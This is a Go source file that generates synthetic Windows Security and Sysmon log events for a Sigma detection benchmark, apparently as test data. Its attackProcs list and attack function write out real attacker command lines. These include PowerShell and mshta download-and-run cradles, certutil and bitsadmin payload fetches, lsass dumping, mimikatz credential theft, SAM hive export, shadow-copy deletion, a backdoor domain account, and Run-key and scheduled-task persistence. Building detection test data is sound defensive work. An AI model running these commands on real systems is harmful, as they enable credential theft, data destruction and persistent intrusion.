package sigma

import (
	"fmt"
	"strings"
)

// Security log events and attacker behaviour for the benchmark corpus.

const logonExplain = "This event is generated when a logon session is created. It is generated on the computer that " +
	"was accessed.\n\nThe subject fields indicate the account on the local system which requested the logon. This " +
	"is most commonly a service such as the Server service, or a local process such as Winlogon.exe or " +
	"Services.exe.\n\nThe logon type field indicates the kind of logon that occurred. The most common types are 2 " +
	"(interactive) and 3 (network).\n\nThe New Logon fields indicate the account for whom the new logon was " +
	"created, i.e. the account that was logged on.\n\nThe network fields indicate where a remote logon request " +
	"originated. Workstation name is not always available and may be left blank in some cases.\n\nThe " +
	"authentication information fields provide detailed information about this specific logon request."

const processExplain = "Token Elevation Type indicates the type of token that was assigned to the new process in " +
	"accordance with User Account Control policy.\n\nType 1 is a full token with no privileges removed or groups " +
	"disabled.\n\nType 2 is an elevated token with no privileges removed or groups disabled.\n\nType 3 is a " +
	"limited token with administrative privileges removed and administrative groups disabled."

// security returns a Security log document.
func (g *corpusGen) security(id int, task, message, explain string, data [][2]string) *winDoc {
	at, host := g.next()
	return &winDoc{channel: "Security", provider: secProvider, eventID: id, at: at, host: host, task: task,
		message: message, explain: explain, data: data}
}

func (g *corpusGen) sid() string {
	return fmt.Sprintf("S-1-5-21-1004336348-1177238915-682003330-%d", 1100+g.r.IntN(900))
}

// sec4624 is a successful logon of logonType (user and address random
// when empty).
func (g *corpusGen) sec4624(logonType, user, ip string) *winDoc {
	if user == "" {
		user = pick(g, g.users)
	}
	if ip == "" {
		ip = g.ip()
	}
	pkg, proc := "Kerberos", "Kerberos"
	if logonType == "3" && g.r.IntN(3) == 0 {
		pkg, proc = "NTLM", "NtLmSsp "
	}
	if logonType == "5" {
		user, ip, pkg, proc = "SYSTEM", "-", "Negotiate", "Advapi  "
	}
	return g.security(4624, "Logon", "An account was successfully logged on.", logonExplain, [][2]string{
		{"SubjectUserSid", "S-1-5-18"}, {"SubjectUserName", "WS-1037$"}, {"SubjectDomainName", "CORP"},
		{"SubjectLogonId", "0x3e7"}, {"TargetUserSid", g.sid()}, {"TargetUserName", user},
		{"TargetDomainName", "CORP"}, {"TargetLogonId", "0x" + strings.ToLower(g.hexN(7))},
		{"LogonType", logonType}, {"LogonProcessName", proc}, {"AuthenticationPackageName", pkg},
		{"WorkstationName", "WS-" + fmt.Sprint(1000+g.r.IntN(900))}, {"LogonGuid", g.guid()},
		{"TransmittedServices", "-"}, {"LmPackageName", "-"}, {"KeyLength", "0"}, {"ProcessId", "0x2a4"},
		{"ProcessName", `C:\Windows\System32\lsass.exe`}, {"IpAddress", ip}, {"IpPort", fmt.Sprint(g.r.IntN(65000))},
		{"ImpersonationLevel", "%%1833"}, {"RestrictedAdminMode", "-"}, {"TargetOutboundUserName", "-"},
		{"TargetOutboundDomainName", "-"}, {"VirtualAccount", "%%1843"}, {"TargetLinkedLogonId", "0x0"},
		{"ElevatedToken", "%%1842"}})
}

// sec4625 is a failed network logon.
func (g *corpusGen) sec4625(user, ip string) *winDoc {
	return g.security(4625, "Logon", "An account failed to log on.", logonExplain, [][2]string{
		{"SubjectUserSid", "S-1-0-0"}, {"SubjectUserName", "-"}, {"SubjectDomainName", "-"},
		{"SubjectLogonId", "0x0"}, {"TargetUserSid", "S-1-0-0"}, {"TargetUserName", user},
		{"TargetDomainName", "CORP"}, {"Status", "0xc000006d"}, {"FailureReason", "%%2313"},
		{"SubStatus", "0xc000006a"}, {"LogonType", "3"}, {"LogonProcessName", "NtLmSsp "},
		{"AuthenticationPackageName", "NTLM"}, {"WorkstationName", "-"}, {"TransmittedServices", "-"},
		{"LmPackageName", "-"}, {"KeyLength", "0"}, {"ProcessId", "0x0"}, {"ProcessName", "-"},
		{"IpAddress", ip}, {"IpPort", fmt.Sprint(g.r.IntN(65000))}})
}

// sec4634 is a logoff.
func (g *corpusGen) sec4634() *winDoc {
	return g.security(4634, "Logoff", "An account was logged off.",
		"This event is generated when a logon session is destroyed. It may be positively correlated with a logon "+
			"event using the Logon ID value. Logon IDs are only unique between reboots on the same computer.",
		[][2]string{{"TargetUserSid", g.sid()}, {"TargetUserName", pick(g, g.users)}, {"TargetDomainName", "CORP"},
			{"TargetLogonId", "0x" + strings.ToLower(g.hexN(7))}, {"LogonType", pick(g, []string{"3", "2", "7"})}})
}

// sec4672 is a logon with special privileges.
func (g *corpusGen) sec4672() *winDoc {
	return g.security(4672, "Special Logon", "Special privileges assigned to new logon.", "",
		[][2]string{{"SubjectUserSid", "S-1-5-18"}, {"SubjectUserName", "SYSTEM"}, {"SubjectDomainName", "NT AUTHORITY"},
			{"SubjectLogonId", "0x3e7"}, {"PrivilegeList", "SeAssignPrimaryTokenPrivilege\n\t\t\tSeTcbPrivilege\n\t\t\t" +
				"SeSecurityPrivilege\n\t\t\tSeTakeOwnershipPrivilege\n\t\t\tSeLoadDriverPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\t" +
				"SeRestorePrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeAuditPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n\t\t\t" +
				"SeImpersonatePrivilege\n\t\t\tSeDelegateSessionUserImpersonatePrivilege"}})
}

// sec4688 is a process creation in the Security log.
func (g *corpusGen) sec4688(p procTemplate) *winDoc {
	user := pick(g, g.users)
	return g.security(4688, "Process Creation", "A new process has been created.", processExplain, [][2]string{
		{"SubjectUserSid", g.sid()}, {"SubjectUserName", user}, {"SubjectDomainName", "CORP"},
		{"SubjectLogonId", "0x" + strings.ToLower(g.hexN(6))}, {"NewProcessId", "0x" + strings.ToLower(g.hexN(4))},
		{"NewProcessName", g.fill(p.image, user)}, {"TokenElevationType", "%%1938"},
		{"ProcessId", "0x" + strings.ToLower(g.hexN(4))}, {"CommandLine", g.fill(p.cmd, user)},
		{"TargetUserSid", "S-1-0-0"}, {"TargetUserName", "-"}, {"TargetDomainName", "-"}, {"TargetLogonId", "0x0"},
		{"ParentProcessName", g.fill(p.parent, user)}, {"MandatoryLabel", "S-1-16-8192"}})
}

// sec4689 is a process exit.
func (g *corpusGen) sec4689() *winDoc {
	user := pick(g, g.users)
	return g.security(4689, "Process Termination", "A process has exited.", "", [][2]string{
		{"SubjectUserSid", g.sid()}, {"SubjectUserName", user}, {"SubjectDomainName", "CORP"},
		{"SubjectLogonId", "0x" + strings.ToLower(g.hexN(6))}, {"Status", "0x0"},
		{"ProcessId", "0x" + strings.ToLower(g.hexN(4))}, {"ProcessName", g.fill(pick(g, benignProcs()).image, user)}})
}

// attackProcs() are attacker command lines SigmaHQ rules catch.
func attackProcs() []procTemplate {
	return []procTemplate{
		{sys32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoP -NonI -W Hidden -Enc " +
			encodedPS("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"),
			sys32 + "cmd.exe", `cmd.exe /c start /b powershell`, "PowerShell.EXE", "Windows PowerShell", msWin, msCorp, false},
		{sys32 + "certutil.exe", `certutil.exe -urlcache -split -f http://198.51.100.23/update.exe C:\Users\Public\update.exe`,
			sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "CertUtil.exe", "CertUtil.exe", msWin, msCorp, false},
		{sys32 + "rundll32.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump {pid} C:\Windows\Temp\lsass.dmp full`,
			sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "RUNDLL32.EXE", "Windows host process (Rundll32)", msWin, msCorp, true},
		{sys32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", sys32 + "cmd.exe",
			`C:\Windows\system32\cmd.exe /c vssadmin.exe delete shadows /all /quiet`, "VSSADMIN.EXE",
			"Command Line Interface for Microsoft® Volume Shadow Copy Service ", msWin, msCorp, true},
		{sys32 + "whoami.exe", "whoami /priv", sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "whoami.exe",
			"whoami - displays logged on user information", msWin, msCorp, false},
		{`C:\Users\Public\mimikatz.exe`, `mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
			sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "mimikatz.exe", "mimikatz for Windows", "mimikatz",
			"gentilkiwi (Benjamin DELPY)", false},
		{sys32 + "reg.exe", `reg.exe save HKLM\SAM C:\Windows\Temp\sam.save`, sys32 + "cmd.exe",
			`"C:\Windows\system32\cmd.exe"`, "reg.exe", "Registry Console Tool", msWin, msCorp, true},
		{sys32 + "net.exe", "net user helpdesk P@ssw0rd123! /add /domain", sys32 + "cmd.exe",
			`"C:\Windows\system32\cmd.exe"`, "net.exe", "Net Command", msWin, msCorp, false},
		{sys32 + "bitsadmin.exe", `bitsadmin /transfer update /download /priority high http://198.51.100.23/a.exe C:\Users\Public\a.exe`,
			sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "bitsadmin.exe", "BITS administration utility", msWin, msCorp, false},
		{sys32 + "mshta.exe", "mshta.exe http://203.0.113.5/payload.hta", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
			`"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\invoice.docm"`,
			"MSHTA.EXE", "Microsoft (R) HTML Application host", msWin, msCorp, false},
		{sys32 + "schtasks.exe", `schtasks /create /sc minute /mo 5 /tn "Updater" /tr "powershell -w hidden -c iex(iwr http://203.0.113.5/u.ps1)" /f`,
			sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`, "schtasks.exe", "Task Scheduler Configuration Tool", msWin, msCorp, false},
		{sys32 + "wbem\\WMIC.exe", "wmic shadowcopy delete /nointeractive", sys32 + "cmd.exe", `"C:\Windows\system32\cmd.exe"`,
			"wmic.exe", "WMI Commandline Utility", msWin, msCorp, true},
	}
}

// attack returns the events of one attacker action.
func (g *corpusGen) attack() []*winDoc {
	switch k := g.r.IntN(20); {
	case k < 13:
		return []*winDoc{g.sysmonProcess(pick(g, attackProcs()))}
	case k < 15:
		return []*winDoc{g.sec4688(pick(g, attackProcs()))}
	case k < 16:
		return []*winDoc{g.sysmonAccess(`C:\Users\Public\procdump64.exe`, `C:\Windows\system32\lsass.exe`, "0x1fffff",
			`C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbgcore.DLL+6c3a|`+
				`C:\Windows\SYSTEM32\dbghelp.dll+1b0f2|UNKNOWN(00007FF6C2A1B3C1)`)}
	case k < 18:
		d := g.sysmonRegistry()
		d.eventID, d.task, d.message = 13, "Registry value set (rule: RegistryEvent)", "Registry value set:"
		d.data = [][2]string{{"RuleName", "-"}, {"EventType", "SetValue"}, {"UtcTime", d.at.Format("2006-01-02 15:04:05.000")},
			{"ProcessGuid", g.guid()}, {"ProcessId", g.pid()}, {"Image", sys32 + "reg.exe"},
			{"TargetObject", `HKU\` + g.sid() + `\Software\Microsoft\Windows\CurrentVersion\Run\Updater`},
			{"Details", `powershell.exe -w hidden -nop -c "iex(New-Object Net.WebClient).DownloadString('http://203.0.113.5/u')"`},
			{"User", `CORP\` + pick(g, g.users)}}
		return []*winDoc{d}
	default:
		// A password guessing burst from one address.
		ip := fmt.Sprintf("203.0.113.%d", 10+g.r.IntN(200))
		var out []*winDoc
		for range 4 + g.r.IntN(6) {
			out = append(out, g.sec4625(pick(g, []string{"administrator", "admin", "backup", "test"}), ip))
		}
		return out
	}
}
